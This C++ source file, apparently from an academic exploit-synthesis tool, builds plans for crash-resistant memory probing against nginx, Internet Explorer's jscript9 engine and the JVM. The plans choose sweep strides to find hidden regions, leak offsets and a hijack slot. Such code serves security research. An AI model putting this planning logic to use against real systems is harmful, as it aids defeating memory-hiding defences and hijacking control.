#include "plan/synth.h"

#include "oracle/oracle.h"

namespace crp::plan {

namespace {

using analysis::Candidate;
using analysis::PrimitiveClass;
using analysis::Verdict;

ExploitPlan base_plan(const TargetBinding& b, const SynthOptions& opts) {
  ExploitPlan p;
  p.target_id = b.id;
  p.region_pages = opts.region_pages;
  return p;
}

/// Deterministic guaranteed-hit scan: stride == region size means one
/// probe must land inside the region anywhere in the window.
ScanStep sweep_scan(const SynthOptions& opts) {
  ScanStep s;
  s.mode = ScanMode::kSweep;
  s.window_pages = opts.window_pages;
  s.stride_pages = opts.region_pages;
  s.max_probes = 0;
  s.seed = opts.seed;
  s.locate_base = true;
  return s;
}

std::string sweep_rationale(const SynthOptions& opts) {
  u64 budget = opts.window_pages / (opts.region_pages ? opts.region_pages : 1);
  return strf(
      "sweep stride=%llu pages cannot miss a %llu-page region: <=%llu probes "
      "in the %llu-page window (full 28-bit entropy: ~%.0f expected probes, "
      "all crash-free)",
      static_cast<unsigned long long>(opts.region_pages),
      static_cast<unsigned long long>(opts.region_pages),
      static_cast<unsigned long long>(budget),
      static_cast<unsigned long long>(opts.window_pages),
      oracle::expected_probes(1ull << 28, opts.region_pages));
}

const Candidate* find_usable_syscall(const std::vector<Candidate>& ev) {
  for (const Candidate& c : ev)
    if (c.cls == PrimitiveClass::kSyscall && c.verdict == Verdict::kUsable &&
        c.controllable_home)
      return &c;
  return nullptr;
}

/// The script-engine guarded site (§VI-A): an SEH scope in the jscript9
/// module whose filter the symex classifier proved AV-accepting (catch-all
/// scopes are structurally accepting).
const Candidate* find_script_seh(const std::vector<Candidate>& ev) {
  for (const Candidate& c : ev)
    if (c.cls == PrimitiveClass::kExceptionHandler &&
        c.module.find("jscript9") != std::string::npos)
      return &c;
  return nullptr;
}

/// Any AV-accepting exception-handler candidate (VEH / signal scanners
/// emit only symex-confirmed kAcceptsAv handlers).
const Candidate* find_handler(const std::vector<Candidate>& ev) {
  for (const Candidate& c : ev)
    if (c.cls == PrimitiveClass::kExceptionHandler) return &c;
  return nullptr;
}

}  // namespace

ExploitPlan synthesize(const TargetBinding& b,
                       const std::vector<Candidate>& evidence,
                       const SynthOptions& opts) {
  ExploitPlan p = base_plan(b, opts);

  switch (b.surface) {
    case Surface::kNone:
      p.rationale =
          "target class exposes no scan/leak/hijack oracle surface; empty "
          "plan replays trivially";
      return p;

    case Surface::kNginxRecv: {
      const Candidate* c = find_usable_syscall(evidence);
      if (c == nullptr) {
        p.rationale =
            "no verified syscall primitive with a controllable pointer home";
        return p;
      }
      p.surface = Surface::kNginxRecv;
      p.primitive = c->describe();
      p.symex_confirmed = false;  // dynamically verified (the verify step)
      p.scan = sweep_scan(opts);
      // The recv() probe *writes* its 8 request bytes at the probed page
      // start: leak offsets skip the clobbered word, and the hijack is the
      // probe itself — a fully controlled write into the hidden region.
      // The hijack slot sits past the leak words, at an offset no
      // page-aligned scan probe ever touched, so the controlled write is
      // observable as before != after.
      p.leak.offsets = {8, 16, 24};
      p.hijack.offset = 32;
      p.rationale = "write-probe primitive; " + sweep_rationale(opts) +
                    "; leak offsets skip the probe-clobbered word";
      return p;
    }

    case Surface::kBrowserSeh: {
      const Candidate* c = find_script_seh(evidence);
      if (c == nullptr) {
        p.rationale = "no AV-accepting SEH scope in the script-engine module";
        return p;
      }
      p.surface = Surface::kBrowserSeh;
      p.primitive = c->describe();
      // Filter verdicts come from the symex classifier; a catch-all scope
      // is structurally accepting (no filter body to execute).
      p.symex_confirmed = true;
      p.scan = sweep_scan(opts);
      p.leak.offsets = {0, 8, 16};
      p.hijack.offset = 0;
      p.rationale = "read-probe primitive (debug_info deref, -0x10 bias); " +
                    sweep_rationale(opts);
      return p;
    }

    case Surface::kBrowserPoll: {
      const Candidate* c = find_handler(evidence);
      if (c == nullptr) {
        p.rationale = "no symex-confirmed VEH primitive harvested";
        return p;
      }
      p.surface = Surface::kBrowserPoll;
      p.primitive = c->describe();
      p.symex_confirmed = true;
      p.scan = sweep_scan(opts);
      p.leak.offsets = {0, 8, 16};
      p.hijack.offset = 0;
      p.rationale =
          "read-probe primitive (background poll thread, no trigger "
          "needed); " +
          sweep_rationale(opts);
      return p;
    }

    case Surface::kJvmNpe: {
      const Candidate* c = find_handler(evidence);
      if (c == nullptr) {
        p.rationale = "no symex-confirmed recovering signal handler";
        return p;
      }
      p.surface = Surface::kJvmNpe;
      p.primitive = c->describe();
      p.symex_confirmed = true;
      p.scan = sweep_scan(opts);
      p.leak.offsets = {0, 8, 16};
      p.hijack.offset = 0;
      p.rationale =
          "read-probe primitive (ucontext-editing SIGSEGV recovery); " +
          sweep_rationale(opts);
      return p;
    }
  }
  return p;
}

}  // namespace crp::plan
